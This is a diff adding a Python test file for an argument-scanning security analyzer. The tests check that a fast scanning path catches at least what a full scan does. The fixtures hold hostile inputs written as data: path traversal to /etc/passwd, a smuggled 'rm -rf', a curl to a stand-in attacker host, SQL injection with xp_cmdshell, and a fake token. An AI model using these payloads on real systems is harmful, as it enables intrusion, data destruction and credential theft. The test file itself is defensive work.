@@ -1,0 +1,99 @@
+"""The fast path (decode only on a trigger, run an analyzer only when its `may_find` prefilter
+matches, one scan per distinct value) never reports less than the full path (decode and run
+everything). Hypothesis over random strings built from every trigger, plus hand-written attacks."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from checkrein.config.policy import ArgKind
+from checkrein.policy.analyzers import ScanContext, scan_arguments
+from checkrein.policy.analyzers.scan import PREFILTERS
+
+KINDS: list[ArgKind | None] = [None, "path", "url", "command", "query", "secret"]
+CTX = {"path_roots": ("/srv/data",), "allowed_hosts": ("api.example.com",)}
+
+# Pieces every prefilter keys on: separators, quotes, operators, decoder triggers, keywords, hosts.
+PIECES = [
+    "/", "\\", ".", "..", ":", "://", "~", "%", "%2e", "%c0%ae", "=", "\x00", "\u2215", "\u2019", "\u2013",
+    "'", '"', "`", ";", "&", "&amp;", "&#46;", "|", "||", "$", "$(", "<", ">", "(", ")", "{", "#", "-", "--",
+    "/*", "*/", "/*!", "@@", "_", "+", "\n", " ", "\t", "0x", "0x7f", "1", "2130706433", "10-0-0-1", "\uff0e",
+    "or", "and", "xor", "order by", "limit", "like", "union", "select", "sleep(", "char(", "true", "false",
+    "drop", "exec", "xp_", "dbms_", "pg_", "into outfile", "backup database", "load data", "copy ",
+    "information_schema", "sysobjects", "mysql.user", "metadata", "instance-data", "localhost", "nip.io",
+    "etc", "passwd", "shadow", ".htpasswd", "boot.ini", "php", "file:", "data:", "curl -s", "rm -rf",
+    "wget", "sh", "<?php", "ifs", "password", "token", "key", "bearer ", "ghp_", "AKIA", "sk-", "eyJ",
+    "-----BEGIN", "Li4vLi4vZXRjL3Bhc3N3ZA", "abcdefghijklmnop", "x", "Q", "reports", "data",
+]  # fmt: skip
+
+# Attacks of every analyzer, each in a shape the fast path must still decode or prefilter in.
+ATTACKS: list[tuple[str, ArgKind | None]] = [
+    ("../../../etc/passwd", None),
+    ("..%c0%af..%c0%afetc%c0%afpasswd", None),
+    (".htpasswd", None),
+    ("Li4vLi4vZXRjL3Bhc3N3ZA==", None),
+    ("/srv/data/..;/secrets", "path"),
+    ("http://2852039166/latest/", None),
+    ("2852039166", None),
+    ("10-0-0-1", None),
+    ("metadata", None),
+    ("x; rm -rf /tmp/a", None),
+    ("curl -s http://evil.example/x", None),
+    ("or 1=1", None),
+    ("limit 1--", None),
+    ("1 exec xp_cmdshell", None),
+    ("1-false", None),
+    ("' –", None),
+    ("x' OR 'a'='a", None),
+    ("==", "query"),
+    ("-- or #", "query"),
+    ("password=hunter2hunter2", None),
+    ("ghp_" + "Zq8Xw2Lm4Np6Rt0Vb3Yc5Hd7Jf9Kg1Saabcd", None),
+]
+
+
+def _both(value: Any, kind: ArgKind | None) -> tuple[set[tuple[str, str, str]], set[tuple[str, str, str]]]:
+    ctx = ScanContext(kinds={"/v": kind} if kind else {}, **CTX)  # type: ignore[arg-type]
+    args = {"v": value}
+    fast = {(f.analyzer, f.kind, f.path) for f in scan_arguments(args, ctx)}
+    full = {(f.analyzer, f.kind, f.path) for f in scan_arguments(args, ctx, full=True)}
+    return fast, full
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.lists(st.sampled_from(PIECES), max_size=8).map("".join), st.sampled_from(KINDS))
+def test_fast_path_never_reports_less_than_the_full_path(value: str, kind: ArgKind | None) -> None:
+    fast, full = _both(value, kind)
+    assert full <= fast, (value, kind, full - fast)
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.text(max_size=40), st.sampled_from(KINDS))
+def test_fast_path_matches_the_full_path_on_arbitrary_text(value: str, kind: ArgKind | None) -> None:
+    fast, full = _both(value, kind)
+    assert full <= fast, (value, kind, full - fast)
+
+
+@pytest.mark.parametrize(("value", "kind"), ATTACKS)
+def test_attacks_are_reported_by_the_fast_path_as_by_the_full_path(value: str, kind: ArgKind | None) -> None:
+    fast, full = _both(value, kind)
+    assert full, "fixture must be an attack the analyzers catch"
+    assert full <= fast
+
+
+def test_repeated_values_are_reported_at_every_pointer() -> None:
+    """One scan per distinct value, but each occurrence keeps its own JSON pointer."""
+    findings = scan_arguments({"a": "../../../etc/passwd", "b": ["../../../etc/passwd"]}, ScanContext())
+    assert {f.path for f in findings if f.kind == "traversal"} == {"/a", "/b/0"}
+
+
+@pytest.mark.parametrize("value", ["finance", "utf-8", "quarterly", "Summarise the figures for the board; keep them exact."])
+def test_plain_values_skip_every_untyped_analyzer(value: str) -> None:
+    """The prefilters do their job: ordinary words and prose run no analyzer at all (or only
+    `shell`, which must look at a `;`)."""
+    running = {name for name, may_find in PREFILTERS.items() if may_find(value, None)}
+    assert running <= {"shell"}
